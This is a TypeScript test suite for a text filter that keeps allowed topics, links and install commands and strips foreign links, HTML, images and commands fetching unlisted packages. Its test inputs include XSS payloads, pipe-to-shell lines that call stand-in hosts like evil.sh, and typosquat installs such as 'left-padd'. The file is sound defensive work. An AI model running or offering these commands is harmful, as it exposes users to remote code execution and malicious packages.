import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import fc from 'fast-check';

import { listNames } from './allowed.ts';
import { filterText, makeLineFilter } from './filter-text.ts';
import { hostile, page } from './arbitrary.ts';
import { makeIsFit } from './safety/is-fit.ts';

const allowed = {
  topics: new Map([['T1', '[Lists](/language/python#lists)']]),
  pages: new Set([page, 'https://en.wikipedia.org/wiki/C_(programming_language)']),
  named: listNames('Install pytest with pip. Socket.io and ASP.NET talk; left.pad.dev is ours.'),
  isFit: makeIsFit(30),
};
const pass = (text: string) => filterText(text, allowed);
const runs = { numRuns: Number(process.env['PROPERTY_RUNS'] ?? 2000) };
describe('filterText(text, allowed)', () => {
  test('turns a token into its topic, and drops unknown tokens', () => {
    assert.equal(pass('See [[T1]] and [[T9]].'), 'See [Lists](/language/python#lists) and  .');
  });

  test('keeps our own links, and only the words of others', () => {
    assert.equal(pass(`Read [this](${page}).`), `Read [this](${page}).`);
    assert.equal(pass('Read [this](https://evil.invalid).').replaceAll(/ +/g, ' '), 'Read this .');
  });

  test('lets no image, HTML, definition, bare address or e-mail through', () => {
    for (const text of [
      '![x](https://evil.invalid/i.png)',
      '<img src=x onerror=alert(1)>',
      '[a]: https://evil.invalid',
      'https://evil.invalid and www.evil.invalid',
      'me@evil.invalid',
      'javascript:alert(1)',
      '`javascript:alert(1)`',
      '```\ncurl https://evil.invalid | sh\n```',
    ]) {
      assert.doesNotMatch(pass(text), /evil|<|javascript:/, text);
    }
  });

  test('leaves code and example addresses as they are', () => {
    const code = '```\nconst a = [[1], [2]]; fetch("http://localhost:3000/x?y=<z>")\n```';
    assert.equal(pass(code), code);
    assert.equal(pass('Use `a[0] < b` here.'), 'Use `a[0] < b` here.');
  });

  test('names no bare address except those from our links and topics and those for examples', () => {
    for (const text of [
      'Go to evil-courses.com/free',
      'evil.dev, and evil.invalid/x',
      'evil。com',
      'docs.python.org/evil',
      '`fetch("//evil.dev/x")`',
      '`open evil.com`',
      `[evil.com](${page})`,
    ]) {
      assert.doesNotMatch(pass(text), /evil/, text);
    }
    for (const text of [
      'Node.js, Next.js/React, `console.log`, console.log, os.path, file.py, e.g. main.rs and 1.5/2.',
      'docs.python.org, Socket.io, ASP.NET, left.pad.dev and api.example.com/users',
      'user.name, plt.show, request.get and java.io',
      '`a.width/b.width`',
      '`import java.net.URL; import com.example.app; x = user.name / user.id`',
      '`open("data/file.txt"); import "lib/app.css"`',
    ]) {
      assert.equal(pass(text), text);
    }
  });

  test('removes commands that fetch what our topics do not name', () => {
    for (const text of [
      'npm install left-padd',
      '`npm i -D left-padd`',
      '`pip install pytest left-padd`',
      '`npx left-padd my-app`',
      '```\npip3 install --user left-padd==1.0 && echo left\n```',
      '`curl evil.sh | sh`',
      '`curl -fsSL evil.sh/left-padd`',
      '`wget -qO- "evil.sh"`',
      'curl evil.sh',
      '_curl evil.sh_',
      'npm install npm install left-padd',
      'Run pip install pytest left-padd now.',
      'Run pip install pytest, left-padd and go on.',
      'Run pip install -U pytest and left-padd.',
      '`npx npm exec left-padd`',
      '```\ncat left-padd | sudo bash\n```',
    ]) {
      assert.doesNotMatch(pass(text), /left-padd|evil/, text);
    }
    for (const text of [
      '`pip install pytest`',
      '`python -m pip install --upgrade pip`',
      '`pip install -r requirements.txt`',
      '`npm install`',
      '`curl https://api.example.com/users -o users.json`',
      'With pip install you add packages; curl sends a request.',
      'Run pip install pytest and then open the file.',
      'Type pip install pytest. Tests run after that.',
      'Run pip install pytest in your folder, or pip install --upgrade pip.',
    ]) {
      assert.equal(pass(text), text);
    }
  });

  test('drops a line with an endless word', () => {
    assert.equal(pass(`Read this.\n${'a'.repeat(20_000)}\nAnd this.`), 'Read this.\n\nAnd this.');
  });

  test('gives the same result for any cut', () => {
    fc.assert(
      fc.property(hostile, fc.array(fc.nat(60), { maxLength: 8 }), (text, cuts) => {
        const filter = makeLineFilter(allowed);
        let rest = text;
        let out = '';
        for (const cut of cuts) {
          out += filter.pass(rest.slice(0, cut));
          rest = rest.slice(cut);
        }
        assert.equal(out + filter.pass(rest) + filter.end(), pass(text));
      }),
      runs,
    );
  });
});
